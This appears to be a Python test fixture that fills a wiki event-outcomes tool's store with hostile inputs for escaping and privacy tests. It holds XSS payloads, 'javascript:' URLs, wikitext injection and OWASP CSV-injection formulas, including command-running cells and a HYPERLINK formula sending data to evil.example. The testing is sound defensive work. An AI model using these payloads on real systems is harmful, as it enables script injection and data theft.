"""A store whose every text from the wiki is hostile, for the security tests (issue #12, item 4).

Names, titles, context fields, organizers, participants' user names, the titles of the pages they
edited, and the problems the parser reports (quoting a bad goal, wiki or field as written) carry
HTML and script injections, ``javascript:`` URLs, spreadsheet formulas and wikitext markup. The
store is filled as the tool fills it: the event pages' problems come from the real parser reading
a hostile page, the outcomes are counted and kept by the refresh's own steps, the cohort and the
comparisons (whose groups are the hostile context values) by the nightly's.

Some of these could not come from a real wiki (a title cannot hold "<"); the store holds them
anyway, so the escaping is tested where it happens, not in what the wiki happens to refuse.
Every participant's name holds a plain marker (``PRIVATE``) that the privacy tests look for.
"""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

from tool.metrics.inputs import Contribution
from tool.pipeline.comparisons import keep_comparisons
from tool.pipeline.refresh import count_and_keep, refresh_cohorts
from tool.store import AccountRecord, CohortRecord, EventRecord, ParticipantRecord, Store
from tool.wiki.eventpage import parse_event
from tool.wiki.registry import Registry
from tool.wiki.siteinfo import SiteInfo

SCRIPT = '<script>alert("xss")</script>'
ATTRIBUTE = '"><img src=x onerror=alert(1)>'
QUOTE = "'><svg onload=alert(1)>"
JAVASCRIPT = "javascript:alert(1)"
WIKITEXT = "]]{{Evil}}[[Category:Evil]]|}'''~~~~<nowiki>"
#: Cells a spreadsheet would run (OWASP's CSV injection list).
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
#: What a page, a CSV or a wikitext table must never hold as it is written here.
PAYLOADS = (SCRIPT, ATTRIBUTE, QUOTE, WIKITEXT)

EVENT = f"Event:Hostile \"'{SCRIPT}"
OTHER_EVENT = "Javascript:alert(1)"  # a title MediaWiki accepts, that reads as a URL scheme
COHORT = f"Cohort:{ATTRIBUTE}"
ORGANIZER = "Olive Organizer"
#: The participants: a plain marker (what the privacy tests look for) in a hostile name.
PRIVATE = ("Ana Private", "Bea Private", "Cid Private", "Dan Private")
PEOPLE = (
    f"{PRIVATE[0]} {SCRIPT}",
    f"{PRIVATE[1]} {ATTRIBUTE}",
    f'=HYPERLINK("http://evil.example","{PRIVATE[2]}")',
    f"{JAVASCRIPT}//{PRIVATE[3]}",
)
CONTEXT = {
    "region": FORMULAS[0] + SCRIPT,
    "country": FORMULAS[1],
    "language": FORMULAS[2] + ATTRIBUTE,
    "theme": FORMULAS[3] + QUOTE,
    "format": JAVASCRIPT,
    "audience": FORMULAS[4] + WIKITEXT,
    "organizing": FORMULAS[5] + SCRIPT,
}
PAGE_TITLES = (SCRIPT, FORMULAS[0], JAVASCRIPT, WIKITEXT)

START = datetime(2026, 1, 14, tzinfo=UTC)
END = datetime(2026, 1, 15, 23, 59, 59, tzinfo=UTC)
NOW = datetime(2026, 6, 1, tzinfo=UTC)
DATA = Path(__file__).parent / "data"

# A page as a hostile organizer could write it: the parser quotes what it cannot read in its problems.
HOSTILE_PAGE = f"""{{{{Event outcomes
 | name = {SCRIPT}
 | start = 2026-01-14
 | end = 2026-01-15
 | wikis = enwiki, {SCRIPT}
 | timezone = {ATTRIBUTE}
 | namespaces = {QUOTE}
 | goal_participants = {SCRIPT}
 | goal_{ATTRIBUTE} = 3
 | registration = {JAVASCRIPT}
 | {SCRIPT} = {ATTRIBUTE}
}}}}
== Participants ==
# [[User:Eve "Twice" & Co]]
# [[User:Eve "Twice" & Co]]
# [[User:{QUOTE}]]
"""


def parsed_problems() -> list[dict[str, object]]:
    """The problems the real parser reports on HOSTILE_PAGE, as discovery stores them."""
    site = SiteInfo.from_api(json.loads((DATA / "siteinfo-metawiki.json").read_text()))
    event = parse_event(HOSTILE_PAGE, site, Registry(), title=EVENT)
    assert len(event.problems) >= 6, event.problems  # each hostile field said, with its value
    return [problem.to_json() for problem in event.problems]


def _event(title: str, page_id: int, name: str) -> EventRecord:
    return EventRecord(
        title=title,
        page_id=page_id,
        rev_id=page_id,
        name=name,
        fields={"name": name, "organizers": f"[[User:{ORGANIZER}|{SCRIPT}]], {ATTRIBUTE}"},
        context=dict(CONTEXT),
        goals={"participants": 3, "edits_during": 100},
        problems=parsed_problems(),
        start=START,
        end=END,
        timezone="UTC",
        wikis=["enwiki", "swwiki"],
        namespaces=[0],
        cohort=name,
        registration=None,
        parsed_at=NOW,
    )


def fill(store: Store) -> None:
    """Two hostile events with hostile people and pages, counted; a hostile cohort; the comparisons."""
    for page_id, (title, name) in enumerate(
        [(EVENT, f"{SCRIPT}{ATTRIBUTE}{WIKITEXT}"), (OTHER_EVENT, FORMULAS[0] + QUOTE)], start=1
    ):
        store.save_event(_event(title, page_id, name))
        store.replace_participants(
            title, [ParticipantRecord(user, line) for line, user in enumerate(PEOPLE, start=10)]
        )
    registered = START - timedelta(days=3)
    accounts = [AccountRecord(user, n, registered) for n, user in enumerate(PEOPLE, start=1)]
    store.save_accounts("global", accounts)
    rev = 0
    for wiki in ("enwiki", "swwiki"):
        rows = []
        for person, user in enumerate(PEOPLE):
            for page, title in enumerate(PAGE_TITLES):
                rev += 1
                when = START + timedelta(hours=person + page)
                rows.append(Contribution(wiki, rev, user, 100 + page, 0, title, when, 10 * rev, page == 0))
            rev += 1  # and one after the event, for the retention figures
            later = END + timedelta(days=40)
            rows.append(Contribution(wiki, rev, user, 200, 0, PAGE_TITLES[0], later, 5, False))
        store.add_contributions(wiki, rows)
        store.add_coverage(wiki, list(PEOPLE), START - timedelta(days=60), NOW)
    for wiki in ("commonswiki", "commonswiki:6"):
        store.add_coverage(wiki, list(PEOPLE), START - timedelta(days=60), NOW)
    for title in (EVENT, OTHER_EVENT):
        record = store.get_event(title)
        assert record is not None
        count_and_keep(store, record, store.participants(title), NOW)
    store.save_cohort(
        CohortRecord(COHORT, 50, 1, f"{QUOTE}{SCRIPT}", events=[EVENT, OTHER_EVENT], match=False,
                     problems=parsed_problems(), parsed_at=NOW)
    )  # fmt: skip
    refresh_cohorts(store, NOW)
    keep_comparisons(store, NOW)
